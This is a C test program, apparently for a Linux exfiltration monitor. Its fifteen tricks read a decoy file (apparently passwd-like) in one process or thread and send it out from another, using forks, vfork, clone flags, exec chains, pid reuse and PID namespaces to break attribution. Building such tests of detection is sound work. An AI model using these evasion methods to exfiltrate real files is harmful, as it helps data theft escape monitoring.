// SPDX-License-Identifier: GPL-2.0-or-later
/* Who did it: the decoy is read by one process or thread, and passed on by another. */
#include "loot.h"
#include <linux/sched.h>

static void child_sends(void)
{
	pid_t pid;

	grab();
	pid = branch();
	if (!pid) {
		send_out(loot, loot_len);
		_exit(0);
	}
	await(pid);
}

/* Twice forked, the one between gone before anything is sent. */
static void double_fork(void)
{
	int go[2];
	pid_t pid;
	char c;

	grab();
	must(pipe(go), "pipe");
	pid = branch();
	if (!pid) {
		if (!branch()) {
			close(go[1]);
			must(read(go[0], &c, 1), "read");
			send_out(loot, loot_len);
		}
		_exit(0);
	}
	await(pid);
	close(go[1]);
}

static void new_session(void)
{
	pid_t pid;

	grab();
	pid = branch();
	if (!pid) {
		must(setsid(), "setsid");
		if (!branch()) {
			must(setpgid(0, 0), "setpgid");
			send_out(loot, loot_len);
		}
		_exit(0);
	}
	await(pid);
}

/* The program is replaced six times between the two steps. */
static void exec_chain(void)
{
	const char *left = getenv("EVADE_LEFT");
	char next[2] = {left ? (char)(left[0] - 1) : '5', 0};

	if (!left) {
		grab();
		must(setenv("EVADE_LOOT", loot, 1), "setenv");
	}
	if (left && left[0] == '0') {
		send_out(getenv("EVADE_LOOT"), strlen(getenv("EVADE_LOOT")));
		return;
	}
	must(setenv("EVADE_LEFT", next, 1), "setenv");
	execl("/proc/self/exe", "kin", "exec_chain", NULL);
	cant("exec");
}

/* Reads in a child that borrows our memory and is gone before the rest happens. */
static void vfork_reads(void)
{
	pid_t pid = vfork();

	if (!pid) {
		grab();
		_exit(0);
	}
	report("pid %d\n", (int)must(pid, "vfork"));
	await(pid);
	send_out(loot, loot_len);
}

static void vfork_sends(void)
{
	volatile pid_t pid;

	grab();
	pid = vfork();
	if (!pid) {
		report("pid %d\n", (int)syscall(SYS_getpid));
		send_out(loot, loot_len);
		_exit(0);
	}
	must(pid, "vfork");
}

/* A child that is its creator's sibling. */
static void clone_parent(void)
{
	long pid;

	grab();
	pid = must(syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0), "clone(CLONE_PARENT)");
	if (pid) {
		report("pid %ld\n", pid);
		return;
	}
	send_out(loot, loot_len);
	_exit(0);
}

/* Another process with the same descriptors: one opens, the other reads and sends. */
static void shared_descriptors(void)
{
	long pid = must(syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0), "clone(CLONE_FILES)");
	int fd;

	if (pid) {
		report("pid %ld\n", pid);
		await((pid_t)pid);
		for (fd = 3; fd < 64; fd++) /* the one that it left behind */
			if (fd != report_fd && pread(fd, loot, ROOM, 0) > 5 && !memcmp(loot, "root:", 5))
				break;
		carry_away(fd);
		return;
	}
	must(open(at(DECOY), O_RDONLY), "open");
	_exit(0);
}

/* The child that reads hands up to its parent, who is no descendant of it; both are of one session. */
static void parent_sends(void)
{
	int up[2];
	pid_t pid;

	must(pipe(up), "pipe");
	pid = branch();
	if (!pid) {
		grab();
		must(write(up[1], loot, loot_len), "write");
		_exit(0);
	}
	await(pid);
	send_out(loot, take(up[0], loot));
}

/* The same, and the child is of another session. */
static void parent_sends_other_session(void)
{
	int up[2];
	pid_t pid;

	must(pipe(up), "pipe");
	pid = branch();
	if (!pid) {
		must(setsid(), "setsid");
		grab();
		must(write(up[1], loot, loot_len), "write");
		_exit(0);
	}
	await(pid);
	send_out(loot, take(up[0], loot));
}

static void parent_sends_other_login(void)
{
	int up[2];
	pid_t pid;

	must(pipe(up), "pipe");
	pid = branch();
	if (!pid) {
		log_in_as(69000);
		if (!(pid = branch())) {
			grab();
			must(write(up[1], loot, loot_len), "write");
			_exit(0);
		}
		await(pid);
		_exit(0);
	}
	await(pid);
	send_out(loot, take(up[0], loot));
}

static void *grab_here(void *unused)
{
	grab();
	return unused;
}

static void *send_here(void *unused)
{
	send_out(loot, loot_len);
	return unused;
}

static void thread_hop(void)
{
	pthread_t one, two;

	must(-pthread_create(&one, NULL, grab_here, NULL), "pthread_create");
	pthread_join(one, NULL);
	must(-pthread_create(&two, NULL, send_here, NULL), "pthread_create");
	pthread_join(two, NULL);
}

static void *send_when_alone(void *leader)
{
	char path[64], state[256] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", *(int *)leader);
	while (!strstr(state, ") Z")) { /* until the first thread is gone */
		fd = must(open(path, O_RDONLY), "open");
		must(read(fd, state, sizeof(state) - 1), "read");
		close(fd);
	}
	send_out(loot, loot_len);
	_exit(0);
}

static void leader_gone(void)
{
	static int leader;
	pthread_t thread;

	leader = getpid();
	grab();
	must(-pthread_create(&thread, NULL, send_when_alone, &leader), "pthread_create");
	syscall(SYS_exit, 0);
}

/* The one who read ends, and its grandchild gets its pid and sends. */
static void pid_reused(void)
{
	struct clone_args args = {.exit_signal = SIGCHLD, .set_tid_size = 1};
	pid_t first = branch(), child = -1;
	int tries;

	if (first) {
		await(first);
		return;
	}
	grab();
	first = getpid();
	args.set_tid = (uintptr_t)&first;
	if (branch())
		_exit(0);
	errno = EEXIST;
	for (tries = 0; child < 0 && errno == EEXIST && tries < 5000; tries++) {
		nap_ms(1); /* until it has been reaped */
		child = (pid_t)syscall(SYS_clone3, &args, sizeof(args));
	}
	if (!must(child, "clone3 with a pid of our choice")) {
		send_out(loot, loot_len);
		_exit(0);
	}
	await(child);
	_exit(0);
}

/* The sender has pid 2 in a namespace of its own. */
static void pid_namespace(void)
{
	char self[16] = "";
	pid_t pid, inner;

	grab();
	must(unshare(CLONE_NEWPID), "unshare(CLONE_NEWPID)");
	pid = branch();
	if (!pid) {
		inner = must(fork(), "fork");
		if (!inner) {
			must(readlink("/proc/self", self, sizeof(self) - 1), "readlink"); /* as it is called outside */
			report("pid %s\n", self);
			send_out(loot, loot_len);
		} else {
			await(inner);
		}
		_exit(0);
	}
	await(pid);
}

static const struct trick tricks[] = {
	TRICK(child_sends),
	TRICK(double_fork),
	TRICK(new_session),
	TRICK(exec_chain),
	TRICK(vfork_reads),
	TRICK(vfork_sends),
	TRICK(clone_parent),
	TRICK(shared_descriptors),
	TRICK(parent_sends),
	TRICK(parent_sends_other_session),
	TRICK(parent_sends_other_login),
	TRICK(thread_hop),
	TRICK(leader_gone),
	TRICK(pid_reused),
	TRICK(pid_namespace),
};

int main(int argc, char **argv)
{
	return RUN(tricks, argc, argv);
}
